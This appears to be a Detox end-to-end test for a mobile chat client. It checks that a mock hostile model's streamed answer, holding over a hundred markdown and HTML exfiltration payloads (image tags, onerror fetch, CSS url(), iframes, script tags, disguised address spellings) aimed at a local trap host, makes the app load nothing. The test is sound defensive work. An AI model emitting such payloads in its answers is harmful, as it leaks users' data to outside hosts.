import { by, element, waitFor } from 'detox'

import { openHostileModel, openTrap, type Trap } from './hostile-model'
import { openFreshApp, patienceMilliseconds, say, visible } from './steps'

/** Spellings of an address, any of which a parser may miss. */
const addresses = (host: string) => [
  `http://${host}/p.png?q=secret`,
  `https://${host}/p.png`,
  `HTTP://${host}/p.svg`,
  `http:&#47;&#47;${host}/p.png`,
  `http://good.example@${host}/p.png`,
  `//${host}/p.png`,
]

/** Markdown and HTML that may make an app load an address. */
const forms: readonly ((address: string) => string)[] = [
  (url) => `![x](${url})`,
  (url) => `![x](<${url}> "t")`,
  (url) => `![x][a${url.length}]\n\n[a${url.length}]: ${url}`,
  (url) => `[![x](${url})](https://good.example)`,
  (url) => `![![x](${url})](${url})`,
  (url) => `**bold ![x](${url})**`,
  (url) => `# ![x](${url})`,
  (url) => `- ![x](${url})`,
  (url) => `> ![x](${url})`,
  (url) => `| a |\n|---|\n| ![x](${url}) |`,
  (url) => `<img src="${url}">`,
  (url) => `text <IMG SRC=${url} onerror=fetch('${url}')> text`,
  (url) => `<div style="background:url(${url})">x</div>`,
  (url) => `<picture><source srcset="${url}"></picture>`,
  (url) => `<svg><image href="${url}"/></svg>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<link rel="stylesheet" href="${url}">`,
  (url) => `<style>@import url(${url})</style>`,
  (url) => `<script src="${url}"></script>`,
  (url) => `[x](${url})`,
  (url) => `<${url}>`,
]

const end = 'Nothing was loaded.'

describe('an answer that tries to exfiltrate data', () => {
  let trap: Trap
  let model: Awaited<ReturnType<typeof openHostileModel>>
  let payloads: readonly string[] = []

  beforeAll(async () => {
    trap = await openTrap()
    payloads = forms.flatMap((form) => addresses(trap.host).map(form))
    model = await openHostileModel(`${payloads.join('\n\n')}\n\n${end}`)
    await openFreshApp()
  })

  afterAll(() => {
    model.close()
    trap.close()
  })

  it('reaches no other host with more than a hundred payloads, streamed in chunks', async () => {
    await element(by.id('server-button')).tap()
    await visible('connect-server')
    await element(by.id('connect-server')).tap()
    await visible('server-address')
    await element(by.id('server-address')).typeText(`http://${model.host}/v1`)
    await element(by.id('server-check')).tap()
    await visible('server-connect')
    await element(by.id('server-connect')).tap()
    await visible('threads-screen')
    await element(by.id('new-thread-button')).tap()
    await waitFor(element(by.text(`${model.host}/v1`)))
      .toBeVisible()
      .withTimeout(patienceMilliseconds)
    await element(by.text(`${model.host}/v1`)).tap()
    await visible('composer-input')
    await say('hello')
    await waitFor(element(by.text(end)))
      .toExist()
      .withTimeout(patienceMilliseconds)

    if (payloads.length < 100) throw new Error(`There are only ${payloads.length} payloads.`)
    if (trap.visits() > 0) throw new Error(`The app loaded ${trap.visits()} of them.`)
    // Shows that the trap counts visits.
    await fetch(`http://${trap.host}/`)
    if (trap.visits() !== 1) throw new Error('The trap does not count.')
  })
})
